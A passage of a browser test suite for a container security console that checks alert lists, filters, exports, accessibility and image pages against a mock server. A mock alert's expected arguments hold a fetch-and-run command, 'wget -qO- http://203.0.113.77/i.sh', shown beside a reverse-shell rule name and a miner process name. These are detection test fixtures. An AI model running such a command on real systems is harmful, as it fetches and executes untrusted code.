// The console in a real Chromium: run by `npm run test:browser` in ui/, and by the Go test beside it.
//
//   DOCKREEVE_URL, DOCKREEVE_LINK   a running server and a fresh sign-in link; without them the development mock
//   DOCKREEVE_RAISE                 a shell command that makes that server raise an alert (with the mock: built in)
//   DOCKREEVE_TENANT                that server is `dockreeve demo tenant`: its governance is gone through, and nothing else
//   PART                            with the mock: a part of the tests, alerts,governance; !alerts,governance is every other; empty = all
//   CHROMIUM                        the browser, /usr/bin/chromium
//   OUT                             where screenshots and results.json go, out/screenshots
import { execFile } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { clusters } from "./clusters.mjs";
import { governance } from "./governance.mjs";
import { tenant } from "./tenant.mjs";

const repo = join(fileURLToPath(new URL(".", import.meta.url)), "../..");
const need = createRequire(join(repo, "ui/package.json"));
const { chromium } = need("playwright-core");
const axeSource = readFileSync(need.resolve("axe-core/axe.min.js"), "utf8");
const out = process.env.OUT ?? join(repo, "out/screenshots");
mkdirSync(out, { recursive: true });

const mock = process.env.DOCKREEVE_URL ? null : await (await import(join(repo, "ui/dev/mock.mjs"))).startMock({ rate: 0 });
const base = (process.env.DOCKREEVE_URL || mock.url).replace(/\/$/, "");
const link = process.env.DOCKREEVE_LINK || mock?.link;
if (!link) throw new Error("DOCKREEVE_URL needs DOCKREEVE_LINK: a fresh sign-in link, as printed by dockreeve up or dockreeve login");
const drive = async (what) => (await fetch(`${base}/mock/${what}`, { method: "POST" })).json();
const raise = mock ? () => drive("raise?rule=reverse-shell-dup&ctr=0") : process.env.DOCKREEVE_RAISE ? () => promisify(execFile)("sh", ["-c", process.env.DOCKREEVE_RAISE]) : null;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
});
const strays = []; // requests to another origin
const faults = []; // uncaught errors and policy violations
const results = { tests: [], measured: {} };
const tenantOnly = Boolean(process.env.DOCKREEVE_TENANT);
let session = null; // cookies of the signed-in browser

async function open({ scheme = "light", width = 1280, height = 720, signedIn = true, scale = 1 } = {}) {
  const context = await browser.newContext({ colorScheme: scheme, viewport: { width, height }, deviceScaleFactor: scale, acceptDownloads: true, locale: "en-GB", timezoneId: "Europe/Berlin" });
  context.on("request", (r) => { if (!r.url().startsWith(base + "/") && !/^(blob|data):/.test(r.url())) strays.push(r.url()); });
  if (signedIn && session) await context.addCookies(session);
  const page = await context.newPage();
  page.on("pageerror", (e) => faults.push(String(e)));
  page.on("console", (m) => { if (/Content Security Policy|Uncaught|Warning:/.test(m.text()) || (tenantOnly && m.type() === "error")) faults.push(m.text()); });
  page.setDefaultTimeout(120_000); // nothing waits so long unless the machine is busy
  return { context, page };
}
const rows = (page) => page.$$eval(".grid-body .grid-row", (l) => l.map((r) => { const b = r.getBoundingClientRect(); return { id: r.dataset.id, y: Math.round(b.y), h: b.height }; }));
const ready = (page) => page.waitForSelector(".grid-row[data-id]");
const shot = (page, name) => page.screenshot({ path: join(out, `${name}.png`) });
function is(ok, what) { if (!ok) throw new Error(what); }
function same(a, b, what) { if (JSON.stringify(a) !== JSON.stringify(b)) throw new Error(`${what}: ${JSON.stringify(a)?.slice(0, 400)} is not ${JSON.stringify(b)?.slice(0, 400)}`); }
async function axe(page, where) {
  await page.evaluate(axeSource);
  const found = await page.evaluate(() => window.axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] }).then((r) => r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.slice(0, 3).map((n) => n.target.join(" ") + " " + (n.any[0]?.message ?? n.all[0]?.message ?? "")) }))));
  const bad = found.filter((v) => v.impact === "serious" || v.impact === "critical");
  results.measured[`axe ${where}`] = found.map((v) => `${v.impact}: ${v.id}`);
  is(bad.length === 0, `axe, ${where}: ${JSON.stringify(bad, null, 1)}`);
}

const tests = [];
let part = "alerts"; // tests of one part follow each other; those of another do not need what they left in the mock
const test = (name, f, { mockOnly = false } = {}) => tests.push({ name, f, mockOnly, part });

test("signed out: says how to get a link, and nothing is fetched that needs one", async () => {
  for (const scheme of ["light", "dark"]) {
    const { context, page } = await open({ signedIn: false, scheme });
    await page.goto(base);
    await page.waitForSelector("text=Sign in to Dockreeve");
    is(await page.isVisible("text=dockreeve up") && await page.isVisible("text=dockreeve login"), "the two commands are not shown");
    await axe(page, `signed out, ${scheme}`);
    await shot(page, `signed-out-${scheme}`);
    await context.close();
  }
});

test("the sign-in link opens the list; its first useful paint is measured", async () => {
  const first = await open();
  await first.page.goto(link);
  await ready(first.page);
  session = await first.context.cookies();
  is(/[?&]q=/.test(first.page.url()), `the filter is not in the address: ${first.page.url()}`);
  await first.context.close();
  const times = [];
  for (let i = 0; i < 5; i++) {
    const { context, page } = await open(); // a new context has a cold cache
    await page.addInitScript(() => {
      new MutationObserver((_, o) => { if (document.querySelector(".grid-row[data-id]")) { o.disconnect(); requestAnimationFrame(() => requestAnimationFrame(() => { window.useful = performance.now(); })); } }).observe(document, { childList: true, subtree: true });
    });
    await page.goto(base + "/alerts");
    times.push(await page.waitForFunction(() => window.useful).then((h) => h.jsonValue()));
    await context.close();
  }
  times.sort((a, b) => a - b);
  results.measured["first useful paint, cold cache, median of 5 (ms)"] = Math.round(times[2]);
});

test("the honesty bar names the gap and opens its reasons and remedies", async () => {
  const { context, page } = await open({ width: 1600 }); // where clusters report, a narrow one leaves out rules
  await page.goto(base + "/alerts");
  await page.waitForSelector('.honesty dl a[href="/advisories"]'); // asked for beside the rest
  const bar = await page.innerText(".honesty");
  for (const part of ["nodes", "last event", "lost in 24 h", "advisories", "rules"]) is(bar.includes(part), `the bar does not say ${part}: ${bar}`);
  await page.click(".honesty .state");
  const panel = await page.innerText("dialog[open]");
  is(/Not assessed/.test(panel) && /Nodes/.test(panel), `the panel lacks its parts: ${panel}`);
  if (mock) is(/io_uring_disabled/.test(panel), "a gap's remedy is missing");
  await axe(page, "what is watched");
  await shot(page, "watched-light");
  await page.keyboard.press("Escape");
  is(await page.evaluate(() => !document.querySelector("dialog[open]") && document.activeElement?.classList.contains("state")), "focus does not return to the bar");
  if (mock) {
    await drive("gaps?v=0");
    await page.waitForSelector(".honesty.good");
    await drive("gaps?v=1");
    await page.waitForSelector(".honesty.warn");
  }
  await context.close();
});

test("keyboard: move, select, open, come back to the same row, filter, help", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts");
  await ready(page);
  const list = await rows(page);
  const active = () => page.$eval(".grid-row.active", (r) => r.dataset.id);
  await page.keyboard.press("j");
  same(await active(), list[0].id, "j does not reach the first row");
  const several = list.length > 3;
  if (several) {
    await page.keyboard.press("j"); await page.keyboard.press("j"); await page.keyboard.press("k");
    same(await active(), list[1].id, "j j k does not reach the second row");
    same(await page.getAttribute(".grid", "aria-activedescendant"), `row-${list[1].id}`, "the active row is not told to screen readers");
    await page.keyboard.press("x"); await page.keyboard.press("j"); await page.keyboard.press("j"); await page.keyboard.press("Shift+X");
    same(await page.$$eval(".grid-row[aria-selected=true]", (l) => l.map((r) => r.dataset.id)), list.slice(1, 4).map((r) => r.id), "x and Shift-x do not select a range");
    is(await page.isVisible("text=3 selected"), "the bar does not count the selection");
    await page.keyboard.press("Escape");
    same(await page.$$eval(".grid-row[aria-selected=true]", (l) => l.length), 0, "Esc does not clear the selection");
  }
  const at = await active();
  const before = page.url();
  await page.keyboard.press("Enter");
  await page.waitForSelector(".alert-head h1");
  same(new URL(page.url()).pathname, `/alerts/${at}`, "Enter does not open the alert's address");
  await page.keyboard.press("Escape");
  await ready(page);
  same([await active(), page.url()], [at, before], "Esc does not come back to the row and the filter");
  await page.keyboard.press("?");
  is(await page.isVisible("dialog[open] >> text=Keys and filters"), "? shows no help");
  await axe(page, "help");
  await page.keyboard.press("Escape");
  await page.keyboard.press("/");
  is(await page.evaluate(() => document.activeElement?.getAttribute("aria-label") === "Filter alerts"), "/ does not focus the filter");
  await context.close();
});

test("live changes never move a row; the pill counts them and brings them when asked", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts");
  await ready(page);
  await page.waitForFunction(() => document.querySelector(".honesty dl"));
  const before = (await rows(page)).slice(0, 15);
  const watched = before[Math.min(4, before.length - 1)];
  await page.hover(`[data-id="${watched.id}"] .c-process`);
  await page.click(`[data-id="${watched.id}"] input`);
  const count = () => page.innerText(`[data-id="${watched.id}"] .c-count`);
  const was = await count();
  const t0 = Date.now();
  if (mock) {
    await raise(); await raise(); await raise();
    await page.waitForSelector(".pill >> text=3 new");
    results.measured["raised to pill in the browser (ms)"] = Date.now() - t0;
    await drive(`touch?id=${watched.id}`);
    await page.waitForFunction(([id, w]) => document.querySelector(`[data-id="${id}"] .c-count`)?.textContent !== w, [watched.id, was]);
  } else {
    await raise();
    await page.waitForSelector(".pill, .grid-row[data-id]");
    await page.waitForFunction((n) => document.querySelector(".pill") || document.querySelectorAll(".grid-row[data-id]").length !== n, before.length);
  }
  same((await rows(page)).slice(0, 15), before, "rows moved under the cursor");
  same(await page.$$eval(".grid-row[aria-selected=true]", (l) => l.map((r) => r.dataset.id)), [watched.id], "the selection changed");
  await shot(page, "alerts-live-pill");
  if (await page.$(".pill")) {
    await page.keyboard.press("n");
    await page.waitForSelector(".pill", { state: "detached" });
    is((await rows(page))[0].id !== before[0].id || !mock, "the new alert is not on top after asking");
    same(await page.$$eval(".grid-row[aria-selected=true]", (l) => l.map((r) => r.dataset.id)), [watched.id], "the selection was lost when the list was renewed");
  }
  await context.close();
});

test("a storm of changes ends in the right numbers", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts");
  await ready(page);
  const before = (await rows(page)).slice(0, 12);
  for (let i = 0; i < 40; i++) await Promise.all([raise(), drive(`touch?id=${before[i % 12].id}`)]);
  await page.waitForFunction(() => /\b40 new\b/.test(document.querySelector(".pill")?.textContent ?? ""));
  same((await rows(page)).slice(0, 12).map((r) => [r.id, r.y]), before.map((r) => [r.id, r.y]), "rows moved in the storm");
  await context.close();
}, { mockOnly: true });

test("status: a reason is asked, the row stays, undo puts it back", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts?q=status:open");
  await ready(page);
  const list = (await rows(page)).slice(0, 8);
  await page.keyboard.press("j"); await page.keyboard.press("s");
  await page.waitForSelector("dialog[open]");
  is(await page.isDisabled("dialog button[type=submit]"), "an alert can be dismissed without a reason");
  await axe(page, "dismiss");
  await page.fill("dialog textarea", "expected change in the test");
  await page.keyboard.press("Enter");
  await page.waitForSelector(`[data-id="${list[0].id}"] >> text=dismissed`);
  await page.waitForSelector(`[data-id="${list[0].id}"].left`);
  same((await rows(page)).slice(0, 8), list, "acting on a row moved the rows");
  await page.click(".toast >> text=Undo");
  await page.waitForSelector(`[data-id="${list[0].id}"] >> text=open`);
  // On a real machine other alerts may come meanwhile, and have a pill of their own.
  if (mock) await page.waitForSelector(".pill", { state: "detached" });
  await page.goto(`${base}/alerts/${list[0].id}`);
  await page.waitForSelector(".history >> text=expected change in the test");
  await page.keyboard.press("a");
  await page.waitForSelector(".kicker >> text=acknowledged");
  await page.keyboard.press("o");
  await page.waitForSelector(".kicker >> text=open");
  await context.close();
});

test("bulk: many at once", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts?q=status:open");
  await ready(page);
  await page.keyboard.press("j"); await page.keyboard.press("x");
  for (let i = 0; i < 4; i++) await page.keyboard.press("j");
  await page.keyboard.press("Shift+X");
  const picked = await page.$$eval(".grid-row[aria-selected=true]", (l) => l.map((r) => r.dataset.id));
  same(picked.length, 5, "five rows are not selected");
  await shot(page, "alerts-bulk");
  await page.click(".bulk >> text=Acknowledge");
  await page.waitForSelector(".toast >> text=5 alerts acknowledged");
  same(await page.$$eval(".grid-row[aria-selected=true]", (l) => l.length), 0, "the selection stays after the act");
  await page.click(".toast >> text=Undo");
  await page.waitForFunction((ids) => ids.every((id) => document.querySelector(`[data-id="${id}"]`)?.textContent.includes("open")), picked);
  await context.close();
}, { mockOnly: true });

test("filter and order live in the address bar, clicked or typed, and the way back works", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts");
  await ready(page);
  const start = page.url();
  await page.click('button[data-menu="severity"]');
  for (const s of ["informational", "low", "medium"]) await page.click(`.menu >> text=${s}`);
  await page.waitForFunction(() => decodeURIComponent(location.search).includes("severity:>=high"));
  await shot(page, "alerts-facet");
  await page.keyboard.press("Escape");
  await page.waitForFunction(() => document.querySelector(".grid-body .sev") && [...document.querySelectorAll(".grid-body .sev")].every((s) => /high|critical/.test(s.getAttribute("aria-label"))));
  const filtered = page.url();
  await page.click("role=columnheader >> text=Count");
  await page.waitForFunction(() => location.search.includes("order=count"));
  const counts = await page.waitForFunction(() => { const l = [...document.querySelectorAll(".grid-body .c-count")].map((c) => Number(c.textContent.replace(/\D/g, ""))); return l.length && l.every((n, i) => i === 0 || l[i - 1] >= n) ? l : null; }).then((h) => h.jsonValue());
  is(counts.length > 0, "nothing is sorted by count");
  await page.reload();
  await ready(page);
  is(page.url().includes("order=count") && decodeURIComponent(page.url()).includes("severity:>=high"), "a reload loses filter or order");
  await page.goBack();
  await page.waitForFunction((u) => location.href === u, filtered);
  while (page.url() !== start) await page.goBack();
  await ready(page);
  await page.keyboard.press("/");
  await page.keyboard.type("nosuchfield:1");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".filters .field-error");
  const said = await page.innerText(".filters .field-error");
  is(/nosuchfield/.test(said), `the error does not name the field: ${said}`);
  await shot(page, "alerts-bad-filter");
  await axe(page, "bad filter");
  await page.click('[aria-label="clear the filter"]');
  await page.waitForFunction(() => !document.querySelector(".filters .field-error"));
  await page.keyboard.press("/");
  await page.keyboard.type("sev");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  same(await page.inputValue('[aria-label="Filter alerts"]'), "severity:", "completion does not complete a field");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => decodeURIComponent(location.search).includes("severity:>="));
  await page.fill('[aria-label="Filter alerts"]', "process:zzz-none");
  await page.keyboard.press("Enter");
  await page.waitForSelector("text=matches this filter");
  is(/None of \d+ alerts? matches/.test(await page.innerText(".empty")), "an empty result shows a bare nothing");
  await shot(page, "alerts-no-match");
  await context.close();
});

test("long lists: few rows in the page, all of them reachable, 32 px each", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts?q=");
  await ready(page);
  is((await rows(page)).every((r) => r.h === 32), "a row is not 32 px");
  const total = await page.getAttribute(".grid", "aria-rowcount").then((n) => Number(n) - 1);
  is((await rows(page)).length < 70, "the list is not virtualised");
  await page.keyboard.press("End");
  for (let i = 0; i < 20; i++) {
    await page.keyboard.press("End");
    await page.waitForTimeout(100);
    if (await page.$eval(".grid-row.active", (r, t) => Number(r.getAttribute("aria-rowindex")) === t + 1, total)) break;
  }
  same(await page.$eval(".grid-row.active", (r) => Number(r.getAttribute("aria-rowindex"))), total + 1, "the last row cannot be reached");
  await context.close();
}, { mockOnly: true });

test("columns are chosen and remembered; exports hold exactly what is shown", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts");
  await ready(page);
  await page.click('button[data-menu="columns"]');
  await page.click(".menu >> text=First seen");
  await page.click(".menu >> text=User");
  await page.keyboard.press("Escape");
  await page.reload();
  await ready(page);
  const heads = await page.$$eval(".grid-head [role=columnheader]", (l) => l.map((h) => h.textContent.trim()).filter(Boolean));
  is(!heads.includes("First seen") && heads.includes("User"), `columns are not remembered: ${heads}`);
  const shown = Number((await page.innerText(".counts b")).replace(/\D/g, ""));
  for (const as of ["CSV", "JSON"]) {
    await page.click('button[data-menu="export"]');
    const [file] = await Promise.all([page.waitForEvent("download"), page.click(`.menu >> text=${as}`)]);
    const text = readFileSync(await file.path(), "utf8");
    const n = as === "CSV" ? text.trimEnd().split("\r\n").length - 1 : JSON.parse(text).length;
    same(n, shown, `${as} rows`);
    const names = as === "CSV" ? text.split("\r\n")[0].split(",") : Object.keys(JSON.parse(text)[0]);
    is(names.includes("user") && !names.includes("first_seen") && names.includes("severity"), `${as} columns: ${names}`);
    if (as === "JSON") same(JSON.parse(text).slice(0, 5).map((r) => r.id), (await rows(page)).slice(0, 5).map((r) => r.id), "the export's order");
  }
  await context.close();
});

test("one alert: sentence, tree open at the offender, conditions with values, raw event, steps", async () => {
  const { context, page } = await open({ height: 900 });
  await page.goto(base + "/alerts?q=" + (mock ? "rule:shell-from-network-service" : ""));
  await ready(page);
  await page.keyboard.press("j"); await page.keyboard.press("Enter");
  await page.waitForSelector(".tree .offender");
  is((await page.innerText(".alert-head h1")).length > 10, "no sentence");
  const offender = await page.innerText(".tree .offender");
  is(/pid \d+/.test(offender) && /uid \d+/.test(offender), `the offender lacks pid or uid: ${offender}`);
  const box = await page.locator(".tree .offender").boundingBox();
  is(box.y + box.height < 900, "the offending process is not in sight at first");
  for (const part of ["Why it fired", "What to do", "Container and image", "ATT&CK", "Occurrences", "Raw event", "History", "kernel to stored"]) is(await page.isVisible(`text=${part}`), `${part} is missing`);
  is((await page.$$(".why li.yes")).length > 0, "no condition is shown as true");
  if (mock) {
    is(/had no value, and the rule asks for that/.test(await page.innerText(".why")), "a null and negated condition is not told honestly");
    is(offender.includes("wget -qO- http://203.0.113.77/i.sh"), "arguments are not whole");
  }
  await page.click("summary >> text=The event as the trace writes it");
  const raw = await page.innerText(".code pre >> nth=-1");
  is(raw.startsWith("{\n") && raw.split("\n").length > 5, "the raw event is not pretty JSON");
  await axe(page, "one alert");
  await page.goto(base + "/alerts/doesnotexist00");
  await page.waitForSelector("text=There is no such alert");
  await context.close();
});

test("search finds alerts and commands from anywhere", async () => {
  const { context, page } = await open();
  await page.goto(base + "/health");
  await page.waitForSelector("text=Hops");
  await page.keyboard.press("Control+k");
  await page.keyboard.type(mock ? "kdevtmpfsi " : "sh");
  await page.waitForSelector(".hit .sev");
  await axe(page, "search");
  await shot(page, "search-light");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".alert-head h1");
  await page.keyboard.press("Control+k");
  await page.keyboard.type("theme dark");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.documentElement.dataset.theme === "dark");
  await page.reload();
  await page.waitForFunction(() => document.documentElement.dataset.theme === "dark");
  await context.close();
});

test("connection lost: says what still works, retries, catches up on what was missed", async () => {
  const { context, page } = await open();
  await page.goto(base + "/alerts");
  await ready(page);
  await page.waitForSelector(".honesty dl");
  const first = (await rows(page))[0].id;
  await drive("down?v=1");
  await page.waitForSelector("text=Connection to the server lost");
  await page.waitForSelector(".honesty.bad");
  same((await rows(page))[0].id, first, "what was shown is gone");
  await axe(page, "connection lost");
  await shot(page, "connection-lost");
  const missed = await raise();
  await drive("down?v=0");
  await page.waitForSelector(".pill >> text=1 new", { timeout: 20_000 });
  is(!(await page.isVisible("text=Connection to the server lost")), "the notice stays");
  await page.keyboard.press("n");
  await page.waitForSelector(`[data-id="${missed.id}"]`);
  await drive("cut");
  await page.waitForFunction(() => !document.querySelector(".honesty.bad"), null, { timeout: 20_000 });
  await context.close();
}, { mockOnly: true });

test("hostile text is text: nothing runs, nothing is fetched, nothing breaks the page", async () => {
  const { context, page } = await open();
  const x = await drive("hostile");
  await page.goto(base + "/alerts?q=");
  await page.waitForSelector(`[data-id="${x.id}"]`);
  is((await rows(page)).every((r) => r.h === 32), "a long text changes a row's height");
  await page.goto(`${base}/alerts/${x.id}`);
  await page.waitForSelector(".tree .offender");
  is((await page.$$("main img, main script")).length === 0, "markup from an alert became elements");
  same(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth && document.querySelector(".page").scrollWidth <= document.querySelector(".page").clientWidth), true, "a long text makes the page scroll sideways");
  await context.close();
}, { mockOnly: true });

test("screens in light, dark and small, without serious findings", async () => {
  for (const scheme of ["light", "dark"]) {
    const { context, page } = await open({ scheme });
    for (const [name, path] of [["alerts", "/alerts"], ["rules", "/rules"], ["health", "/health"]]) {
      await page.goto(base + path);
      await page.waitForSelector(name === "alerts" ? ".grid-row[data-id]" : "table.plain tbody tr");
      await page.waitForSelector(".honesty dl");
      await axe(page, `${name}, ${scheme}`);
      await shot(page, `${name}-${scheme}`);
    }
    await page.goto(base + "/alerts");
    await ready(page);
    await page.keyboard.press("j"); await page.keyboard.press("Enter");
    await page.waitForSelector(".tree .offender");
    await page.waitForSelector("table.plain tbody tr");
    await axe(page, `alert, ${scheme}`);
    await shot(page, `alert-${scheme}`);
    await context.close();
    const small = await open({ scheme, width: 390, height: 844, scale: 2 });
    for (const path of ["/alerts", "/rules", "/health"]) {
      await small.page.goto(base + path);
      await small.page.waitForSelector(path === "/alerts" ? ".grid-row[data-id]" : "table.plain tbody tr");
      same(await small.page.evaluate(() => document.documentElement.scrollWidth), 390, `${path} scrolls sideways on a phone`);
      same(await small.page.evaluate(() => { const p = document.querySelector(".page"); return !p || p.scrollWidth <= p.clientWidth; }), true, `the page of ${path} scrolls sideways on a phone`);
      await axe(small.page, `${path} small, ${scheme}`);
      await shot(small.page, `${path.slice(1)}-small-${scheme}`);
    }
    await small.page.goto(base + "/alerts");
    await ready(small.page);
    await small.page.click(".grid-row[data-id] .text");
    await small.page.waitForSelector(".tree .offender");
    same(await small.page.evaluate(() => document.querySelector(".page").scrollWidth <= document.querySelector(".page").clientWidth), true, "an alert scrolls sideways on a phone");
    await small.page.click("text=Acknowledge");
    await small.page.waitForSelector(".kicker >> text=acknowledged");
    await axe(small.page, `alert small, ${scheme}`);
    await shot(small.page, `alert-small-${scheme}`);
    await small.page.click("text=Open again");
    await small.page.waitForSelector(".kicker >> text=open");
    await small.context.close();
  }
});

test("nothing to show is never a bare zero", async () => {
  const { context, page } = await open();
  await drive("empty");
  await page.goto(base + "/alerts");
  await page.waitForSelector(".empty");
  is(/0 alerts in 3 h \d+ m of watching 1 node, 12 containers/.test(await page.innerText(".empty")), `the zero has no denominator: ${await page.innerText(".empty")}`);
  await axe(page, "empty");
  await shot(page, "alerts-empty");
  await raise();
  await ready(page); // the first alert comes by itself: there is no row to move
  await drive("empty");
  await drive("watched?v=0");
  await page.reload();
  await page.waitForSelector(".empty >> text=Nothing is watched");
  is(/sudo dockreeve up/.test(await page.innerText(".empty")), "no command says what to do");
  await axe(page, "nothing watched");
  await shot(page, "alerts-nothing-watched");
  await drive("empty?v=0"); // the tests of clusters want theirs
  await context.close();
}, { mockOnly: true });

part = "images";
// The rooms of images. A real server has those it was given: what needs certain ones is for the mock.
const first = (page) => page.$eval(".grid-row[data-id]", (r) => r.dataset.id);
const fits = async (page, what) => {
  same(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true, `${what} scrolls sideways`);
  same(await page.evaluate(() => { const p = document.querySelector(".page"); return !p || p.scrollWidth <= p.clientWidth; }), true, `the page of ${what} scrolls sideways`);
};
const exportOf = async (page, as) => {
  await page.click('button[data-menu="export"]');
  const [file] = await Promise.all([page.waitForEvent("download"), page.click(`.menu >> text=${as}`)]);
  return readFileSync(await file.path(), "utf8");
};

test("images: rows of 32 px with a verdict or the reason why there is none, and their denominators", async () => {
  const { context, page } = await open();
  await page.goto(base + "/images");
  await ready(page);
  is((await rows(page)).every((r) => r.h === 32) && (await rows(page)).length < 70, "a row is not 32 px, or the list is not virtualised");
  const line = await page.innerText(".counts-line");
  is(/\d+ of \d+ images/.test(line.replace(/\u202f/g, "")) && /running images? assessed/.test(line) && /advisories \d+ \w+ old/.test(line) && /passed a gate/.test(line), `a denominator is missing: ${line}`);
  is(await page.$$eval(".grid-body .c-findings", (l) => l.length > 0 && l.every((c) => c.querySelector(".sevs[aria-label]") || /^not assessed: ./.test(c.textContent))), "a row has neither verdict nor reason");
  same(await page.evaluate(() => { const g = document.querySelector(".grid"); return g.scrollWidth <= g.clientWidth; }), true, "the columns at first do not fit in 1280 px");
  await page.goto(base + "/images?q=assessed:no");
  await ready(page);
  const cells = await page.$$eval(".grid-row[data-id]", (l) => l.map((r) => ["findings", "kev", "fixable", "secrets"].map((k) => r.querySelector(`.c-${k}`).textContent)));
  is(cells.length > 3 && cells.every(([f, ...n]) => /^not assessed: ./.test(f) && n.every((x) => x === "?")), `a row without a verdict shows numbers: ${JSON.stringify(cells[0])}`);
  await axe(page, "images not assessed");
  await context.close();
}, { mockOnly: true });

test("images: filter by chip, by hand and by severity; order; all in the address bar", async () => {
  const { context, page } = await open();
  await page.goto(base + "/images");
  await ready(page);
  await page.click(".chip >> text=Running");
  await page.waitForFunction(() => decodeURIComponent(location.search).includes("running:yes"));
  await page.click(".chip >> text=Known exploited");
  await page.waitForFunction(() => decodeURIComponent(location.search).includes("kev:yes"));
  same(await page.$$eval('.chip[aria-pressed="true"]', (l) => l.map((c) => c.textContent)), ["Running", "Known exploited"], "the pressed chips");
  await page.waitForFunction(() => [...document.querySelectorAll(".grid-body .c-kev")].length > 0 && [...document.querySelectorAll(".grid-body .c-kev")].every((c) => Number(c.textContent) > 0));
  await page.click("role=columnheader >> text=In use");
  await page.waitForFunction(() => location.search.includes("order=in_use"));
  await page.reload();
  await ready(page);
  const used = await page.$$eval(".grid-body .c-in_use", (l) => l.map((c) => Number(c.textContent)).filter((n) => !Number.isNaN(n)));
  is(used.length > 2 && used.every((n, i) => i === 0 || used[i - 1] >= n), `not sorted by use: ${used}`);
  await page.click("role=columnheader >> text=Image");
  await page.waitForFunction(() => document.querySelector('[role=columnheader][aria-sort="ascending"]'));
  await page.keyboard.press("/");
  await page.keyboard.type("wrong:1");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".filters .field-error");
  is(/wrong/.test(await page.innerText(".filters .field-error")), "the error does not name the field");
  await page.fill('[aria-label="Filter images"]', "assess");
  await page.keyboard.press("ArrowDown"); await page.keyboard.press("Enter");
  same(await page.inputValue('[aria-label="Filter images"]'), "assessed:", "completion does not complete a field of images");
  await page.keyboard.press("ArrowDown"); await page.keyboard.press("ArrowDown"); await page.keyboard.press("Enter");
  await page.waitForFunction(() => decodeURIComponent(location.search) === "?q=assessed:no&order=name");
  await page.fill('[aria-label="Filter images"]', "image:nothing-like-this");
  await page.keyboard.press("Enter");
  await page.waitForSelector("text=matches this filter");
  is(/None of 50\d images matches/.test(await page.innerText(".empty")), "an empty result has no denominator");
  await context.close();
}, { mockOnly: true });

test("images: keyboard, paging to the end, back to the same row", async () => {
  const { context, page } = await open();
  await page.goto(base + "/images");
  await ready(page);
  const list = await rows(page);
  for (const k of ["j", "j", "j", "k"]) await page.keyboard.press(k);
  same(await page.$eval(".grid-row.active", (r) => r.dataset.id), list[1].id, "j j j k does not reach the second row");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".image h1");
  same(new URL(page.url()).pathname, `/images/${list[1].id}`, "Enter does not open the image's address");
  await page.keyboard.press("j");
  await page.waitForFunction((id) => location.pathname === `/images/${id}`, list[2].id);
  await page.keyboard.press("Escape");
  await ready(page);
  same(await page.$eval(".grid-row.active", (r) => r.dataset.id), list[1].id, "Esc does not come back to the row");
  await page.keyboard.press("?");
  await page.waitForSelector("dialog[open] >> text=Filter images");
  await axe(page, "help of images");
  await page.keyboard.press("Escape");
  const total = Number(await page.getAttribute(".grid", "aria-rowcount")) - 1;
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press("End");
    await page.waitForTimeout(100);
    if (await page.$eval(".grid-row.active", (r, t) => Number(r.getAttribute("aria-rowindex")) === t + 1, total)) break;
  }
  same(await page.$eval(".grid-row.active", (r) => Number(r.getAttribute("aria-rowindex"))), total + 1, "the last image cannot be reached");
  await context.close();
}, { mockOnly: true });

test("images: a new one is told by the pill and moves nothing until asked", async () => {
  const { context, page } = await open();
  await page.goto(base + "/images");
  await ready(page);
  await page.waitForFunction(() => document.querySelector(".honesty dl"));
  const before = (await rows(page)).slice(0, 12);
  const { key } = await drive("scan");
  await page.waitForSelector(".pill >> text=1 new");
  same((await rows(page)).slice(0, 12), before, "rows moved under the cursor");
  await shot(page, "images-live-pill");
  await page.keyboard.press("n");
  await page.waitForSelector(`[data-id="${key}"]`);
  await drive("advisories?state=stale"); // everything is matched again: nothing moves, nothing is called gone
  await page.waitForSelector(".counts-line .amber >> text=advisories");
  same(await page.$(".pill"), null, "a re-match that changed no row raises the pill");
  await drive("advisories?state=good");
  await context.close();
}, { mockOnly: true });

test("images: exports hold the columns shown, and no number where there is no verdict", async () => {
  const { context, page } = await open();
  await page.goto(base + "/images?q=running:yes");
  await ready(page);
  const shown = Number((await page.innerText(".counts b")).replace(/\D/g, ""));
  const list = JSON.parse(await exportOf(page, "JSON"));
  same(list.length, shown, "JSON rows");
  same(list.slice(0, 4).map((r) => r.digest), (await rows(page)).slice(0, 4).map((r) => r.id), "the export's order");
  is(list.some((r) => r.not_assessed) && list.every((r) => (r.not_assessed ? r.critical === "not assessed" : Number.isInteger(r.critical))), "a count stands where nothing was assessed");
  await page.click('button[data-menu="columns"]');
  await page.click(".menu >> text=Base");
  await page.keyboard.press("Escape");
  const csv = (await exportOf(page, "CSV")).split("\r\n");
  is(csv.length - 2 === shown && csv[0].includes("base") && csv[0].includes("known_exploited"), `CSV: ${csv[0]}`);
  await context.close();
}, { mockOnly: true });

test("one image: a sentence, a vulnerability opened in place, every part by keyboard", async () => {
  const { context, page } = await open({ height: 900 });
  await page.goto(base + "/images?q=running:yes+kev:yes+in_use:yes");
  await ready(page);
  await page.goto(`${base}/images/${await first(page)}`);
  await page.waitForSelector(".findings tbody");
  const says = await page.innerText(".image h1");
